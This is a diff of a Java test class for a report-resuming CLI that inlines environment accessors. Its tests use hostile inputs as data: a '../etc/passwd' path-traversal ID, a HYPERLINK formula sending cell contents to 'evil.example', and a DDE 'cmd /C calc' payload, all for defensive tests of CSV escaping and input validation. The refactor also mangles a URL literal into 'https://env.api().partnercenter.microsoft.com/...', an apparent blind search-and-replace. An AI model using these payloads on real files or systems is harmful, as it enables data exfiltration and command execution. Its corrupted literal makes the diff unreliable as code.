@@ -7,7 +7,6 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.reportresumer.testsupport.CliRun;
 import com.reportresumer.testsupport.ForkedApp;
 import com.reportresumer.testsupport.PartnerCenterStandIn;
-import com.reportresumer.testsupport.Requests;
 import com.reportresumer.testsupport.ResumerEnvironment;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -17,7 +16,6 @@ import java.util.List;
 import java.util.Map;
 import java.util.UUID;
 import java.util.concurrent.TimeUnit;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 import org.junit.jupiter.api.io.TempDir;
@@ -34,15 +32,6 @@ class OpsCommandsTest {
     final ResumerEnvironment env = new ResumerEnvironment().withApi(api -> api.resumesEverything(0))
             .withProperties("--resumer.job.max-attempts=2", "--resumer.job.backoff.initial=5ms");
 
-    private PartnerCenterStandIn api;
-    private Requests requests;
-
-    @BeforeEach
-    void setUp() {
-        api = env.api();
-        requests = env.requests();
-    }
-
     @Test
     void flagAddsValidIdsOnceAndListsMalformedOnes() {
         String a = UUID.randomUUID().toString(), b = UUID.randomUUID().toString();
@@ -54,7 +43,7 @@ class OpsCommandsTest {
         assertThat(first.out()).contains("2 added, 0 already pending, 1 malformed").contains("../etc/passwd");
         assertThat(again.exitCode()).as(again.toString()).isZero();
         assertThat(again.out()).contains("0 added, 1 already pending, 0 malformed");
-        assertThat(requests.query("SELECT report_id, requested_by, reason, status FROM resume_request ORDER BY id"))
+        assertThat(env.requests().query("SELECT report_id, requested_by, reason, status FROM resume_request ORDER BY id"))
                 .containsExactly(
                         Map.of("report_id", a, "requested_by", "alice", "reason", "incident 42", "status", "PENDING"),
                         Map.of("report_id", b, "requested_by", "alice", "reason", "incident 42", "status", "PENDING"));
@@ -73,7 +62,7 @@ class OpsCommandsTest {
 
         assertThat(fromPlain.out()).as(fromPlain.toString()).contains("2 added, 0 already pending, 0 malformed");
         assertThat(fromCsv.out()).as(fromCsv.toString()).contains("1 added, 1 already pending, 0 malformed");
-        assertThat(requests.count("SELECT count(*) FROM resume_request")).isEqualTo(3);
+        assertThat(env.requests().count("SELECT count(*) FROM resume_request")).isEqualTo(3);
         assertThat(env.cli("flag", "--file", dir.resolve("missing.txt").toString()).exitCode()).isEqualTo(2);
     }
 
@@ -81,29 +70,29 @@ class OpsCommandsTest {
     void flagAllPausedAsksTheApiAndFlagsOnlyPausedReports() {
         String paused1 = UUID.randomUUID().toString(), paused2 = UUID.randomUUID().toString();
         // the listing fails transiently once, and is asked again
-        api.script().answerList(status(503, "busy"), okJson("""
+        env.api().script().answerList(status(503, "busy"), okJson("""
                 {"value":[{"reportId":"%s","reportStatus":"Paused"},{"reportId":"%s","reportStatus":"Active"},
                           {"reportId":"%s","reportStatus":"paused"},{"reportId":"%s","reportStatus":"Inactive"}],
                  "totalCount":4,"message":"ok","statusCode":200,"nextLink":null,"dataRedacted":false}"""
                 .formatted(paused1, UUID.randomUUID(), paused2, UUID.randomUUID())));
 
         CliRun result = env.cli("flag", "--all-paused");
-        assertThat(api.allUrls().stream().filter(u -> u.endsWith("/ScheduledReport"))).hasSize(2);
+        assertThat(env.api().allUrls().stream().filter(u -> u.endsWith("/ScheduledReport"))).hasSize(2);
 
         assertThat(result.exitCode()).as(result.toString()).isZero();
         assertThat(result.out()).contains("2 added");
-        assertThat(requests.query("SELECT report_id FROM resume_request ORDER BY id"))
+        assertThat(env.requests().query("SELECT report_id FROM resume_request ORDER BY id"))
                 .extracting(r -> r.get("report_id")).containsExactly(paused1, paused2);
     }
 
     @Test
     void flagAllPausedFollowsNextLinkAgainstTheConfiguredApiOnly() {
         String first = UUID.randomUUID().toString(), second = UUID.randomUUID().toString();
-        api.script().answerList(okJson("""
+        env.api().script().answerList(okJson("""
                 {"value":[{"reportId":"%s","reportStatus":"Paused"}],"totalCount":1,
                  "nextLink":"https://elsewhere.example.com/insights/v1/mpn/ScheduledReport?continuationToken=p%%2B2&top=1"}"""
                 .formatted(first)));
-        api.script().answerListWhere("continuationToken", "p+2", okJson("""
+        env.api().script().answerListWhere("continuationToken", "p+2", okJson("""
                 {"value":[{"reportId":"%s","reportStatus":"Paused"}],"totalCount":1,"nextLink":null}"""
                 .formatted(second)));
 
@@ -111,26 +100,26 @@ class OpsCommandsTest {
 
         assertThat(result.exitCode()).as(result.toString()).isZero();
         assertThat(result.out()).contains("2 added");
-        assertThat(api.allUrls().stream().filter(u -> u.contains("/ScheduledReport"))).hasSize(2);
+        assertThat(env.api().allUrls().stream().filter(u -> u.contains("/ScheduledReport"))).hasSize(2);
     }
 
     @Test
     void flagAllPausedFlagsEachPageAsItArrives() {
         String first = UUID.randomUUID().toString();
-        api.script().answerList(okJson("""
+        env.api().script().answerList(okJson("""
                 {"value":[{"reportId":"%s","reportStatus":"Paused"},{"reportId":"%s","reportStatus":"Active"}],
-                 "nextLink":"https://api.partnercenter.microsoft.com/insights/v1/mpn/ScheduledReport?continuationToken=p2"}"""
+                 "nextLink":"https://env.api().partnercenter.microsoft.com/insights/v1/mpn/ScheduledReport?continuationToken=p2"}"""
                 .formatted(first, UUID.randomUUID())));
-        api.script().answerListWhere("continuationToken", "p2", status(503, "busy"));
+        env.api().script().answerListWhere("continuationToken", "p2", status(503, "busy"));
 
         CliRun result = env.cli("flag", "--all-paused");
 
         // the first page was flagged when it arrived, before the second one was asked for
         assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
         assertThat(result.err()).contains("page 2").contains("1 paused reports").contains("HTTP 503: busy");
-        assertThat(requests.query("SELECT report_id, status FROM resume_request"))
+        assertThat(env.requests().query("SELECT report_id, status FROM resume_request"))
                 .containsExactly(Map.of("report_id", first, "status", "PENDING"));
-        assertThat(api.allUrls().stream().filter(u -> u.contains("continuationToken=p2"))).hasSize(2);
+        assertThat(env.api().allUrls().stream().filter(u -> u.contains("continuationToken=p2"))).hasSize(2);
     }
 
     @Test
@@ -153,7 +142,7 @@ class OpsCommandsTest {
                 }
             }
         }
-        requests.flag(pending.toArray(String[]::new));
+        env.requests().flag(pending.toArray(String[]::new));
         List<String> args = new ArrayList<>(List.of("--file", file.toString(), "--by", "bulk"));
         args.addAll(List.of(env.db().springArgs()));
 
@@ -168,19 +157,19 @@ class OpsCommandsTest {
         assertThat(app.process().exitValue()).as(app.err()).isEqualTo(2);
         assertThat(app.out()).startsWith("199990 added, 5010 already pending, 3 malformed")
                 .contains("not-a-report-3", "not-a-report-70003", "not-a-report-140003");
-        assertThat(requests.count("SELECT count(*) FROM resume_request WHERE status = 'PENDING'"))
+        assertThat(env.requests().count("SELECT count(*) FROM resume_request WHERE status = 'PENDING'"))
                 .isEqualTo(200_000);
-        assertThat(requests.count("SELECT count(*) FROM resume_request WHERE requested_by = 'bulk'"))
+        assertThat(env.requests().count("SELECT count(*) FROM resume_request WHERE requested_by = 'bulk'"))
                 .isEqualTo(199_990);
     }
 
     @Test
     void auditRunsAndRerunFailedTellOpsWhatHappened() throws Exception {
         UUID good = UUID.randomUUID(), down = UUID.randomUUID(), gone = UUID.randomUUID();
-        api.answers(down, status(503, "Service unavailable")).answers(gone, status(404, "Report not found"));
-        requests.flag(good.toString(), down.toString(), gone.toString(), "bad\u0007id");
+        env.api().answers(down, status(503, "Service unavailable")).answers(gone, status(404, "Report not found"));
+        env.requests().flag(good.toString(), down.toString(), gone.toString(), "bad\u0007id");
         assertThat(env.cli("run").exitCode()).isEqualTo(3);
-        api.answers(down, PartnerCenterStandIn.resumed());
+        env.api().answers(down, PartnerCenterStandIn.resumed());
 
         CliRun rerun = env.cli("rerun-failed");
 
@@ -234,9 +223,9 @@ class OpsCommandsTest {
         String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
         List<String> hostile = List.of(formula, "+1+2", "-3-4", "@SUM(A1)", "\tx", "\ry");
         UUID refusing = UUID.randomUUID();
-        api.answers(refusing, status(400, "@SUM(1+1)*cmd|' /C calc'!A0"));
-        requests.flag(hostile.toArray(String[]::new));
-        requests.flag(refusing.toString());
+        env.api().answers(refusing, status(400, "@SUM(1+1)*cmd|' /C calc'!A0"));
+        env.requests().flag(hostile.toArray(String[]::new));
+        env.requests().flag(refusing.toString());
         assertThat(env.cli("run").exitCode()).isEqualTo(3);
 
         List<Map<String, String>> audit = parseCsv(env.cli("audit", "--format", "csv"));
